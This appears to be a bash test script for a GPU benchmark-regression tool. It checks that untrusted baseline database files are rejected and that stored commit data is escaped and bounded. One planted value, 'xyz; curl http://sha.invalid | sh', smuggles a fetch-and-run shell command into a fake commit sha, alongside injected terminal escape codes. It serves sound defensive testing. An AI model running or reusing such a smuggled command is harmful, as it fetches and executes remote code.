#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# A slowdown's baseline file from a reproducers/ folder is untrusted (issue 37): `bench --against
# FILE` refuses, with exit 2 and a clear message before anything is timed, a link (never
# followed), a file over the size bound (a sparse giant), a damaged copy, a file that is not a
# database, a database not ours; after the timing, a baseline of another GPU model (exit 2: not
# comparable, not "same"). What older reproducers/ folders carried (the baseline run's whole
# database) is still accepted and still reports the slower row. The first bad commit stored with
# an open regression is read as untrusted: a sha not hex ignored, the subject escaped and bounded.
#   tests/untrusted_against.sh GPUREGRESS DB_QUERY
set -u
source "$(dirname "$0")/probe.sh"
bin=$(abs "$1")
dbq=$(abs "$2")
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
classes="against"
probe_dir=$tmp
cd "$tmp" || exit 2

sel=(--filter selftest/ok --cases 20)
"$bin" run "${sel[@]}" --seed 1 --bench --db night.db >n1.log 2>&1
cp night.db old-whole.db # what an older reproducers/ folder carried: the whole baseline database
GR_TEST_SLOWDOWN=selftest/ok=2 "$bin" run "${sel[@]}" --seed 2 --bench --db night.db >n2.log 2>&1
"$bin" export --db night.db --format reproducers --out rep >export.log 2>&1
dir=$(ls -d rep/slower-* 2>/dev/null | head -1)
note against "$([ -f "$dir/baseline.db" ] && echo 1)" "no slower folder with baseline.db in rep/"
good=$tmp/$dir/baseline.db
kase=$(sed -n "s/^case: //p" "$dir/reproducer.txt")
b() { probe against "$@"; }
bench=("$bin" bench selftest/ok --case "$kase" --db "$tmp/local.db" --against)

ln -s "$good" link.db
b 2 "a symbolic link, not followed" -- "${bench[@]}" link.db
truncate -s 2G giant.db
b 2 "over the 1073741824 a baseline may have" -- "${bench[@]}" giant.db
cp "$good" damaged.db
pages=$(($(stat -c %s damaged.db) / 4096))
dd if=/dev/urandom of=damaged.db bs=4096 seek=$((pages - 1)) count=1 conv=notrunc status=none
b 2 "baseline 'damaged.db' is damaged or not a database: database disk image is malformed" \
  -- "${bench[@]}" damaged.db
cp "$good" damaged2.db # the header's page too
dd if=/dev/urandom of=damaged2.db bs=4096 seek=1 count=$((pages - 1)) conv=notrunc status=none
b 2 "baseline 'damaged2.db'" -- "${bench[@]}" damaged2.db
printf 'gpuregress-reproducer 1\nkind: slowdown\n' >text.db
b 2 "baseline 'text.db': file is not a database" -- "${bench[@]}" text.db
"$dbq" -w notours.db "CREATE TABLE t(x); INSERT INTO t VALUES (1)" >/dev/null
b 2 "is not a gpuregress database" -- "${bench[@]}" notours.db
b 2 "neither a run id nor a readable database" -- "${bench[@]}" missing.db
note against "$([ "$("$dbq" local.db "SELECT count(*) FROM timings")" = 0 ] && echo 1)" \
  "a refused file, and still timed (local.db holds timings)"
cp "$good" foreign.db
"$dbq" -w foreign.db "UPDATE runs SET gpu_name = 'NVIDIA Foreign X1'; UPDATE timings SET gpu_name = 'NVIDIA Foreign X1'" >/dev/null
b 2 "was timed on NVIDIA Foreign X1, this run on" -- "${bench[@]}" foreign.db
rm -f local.db
export GR_TEST_SLOWDOWN=selftest/ok=2
b 1 ": slower" -- "${bench[@]}" old-whole.db
unset GR_TEST_SLOWDOWN

# the first bad commit stored with an open regression (schema 11) comes from a database too: a
# sha that is not hex is ignored, a subject is shown escaped and bounded (terminal, JSON, Markdown)
"$bin" compare --db night.db --record >record.log 2>&1
"$dbq" -w night.db "INSERT INTO first_bad SELECT algorithm, variant, params, seed, l2, opened_run,
  CASE WHEN params LIKE 'n=16384 %' THEN 'abcdef0123456789abcdef0123456789abcdef01'
  ELSE 'xyz; curl http://sha.invalid | sh' END,
  'evil ' || char(27) || '[31mred' || char(10) || 'line2 ' || printf('%.3000c', 'x'),
  '2026-01-01', '2026-01-02' FROM open_regressions" >/dev/null
for f in text markdown junit; do
  if [ $f = junit ]; then "$bin" export --db night.db --format $f --out fb.$f >/dev/null 2>&1
  else "$bin" compare --db night.db --format $f >fb.$f 2>&1; fi
  note against "$(grep -qF 'first bad: abcdef012345 evil ' fb.$f && echo 1)" "$f: no escaped first bad"
  note against "$(! grep -q $'\x1b' fb.$f && ! grep -q 'sha.invalid' fb.$f && echo 1)" "$f: a raw escape or the non-hex sha"
  note against "$(! grep -q 'x\{1000\}' fb.$f && echo 1)" "$f: the subject unbounded"
done
"$bin" export --db night.db --format json --out fb.json >/dev/null 2>&1
note against "$(grep -qF '"first_bad": "abcdef012345 evil \\x1b[31mred' fb.json && ! grep -q 'sha.invalid' fb.json &&
  ! grep -q 'x\{1000\}' fb.json && echo 1)" "json: the first bad not escaped, bounded, or a non-hex sha shown"
probe_summary untrusted_against
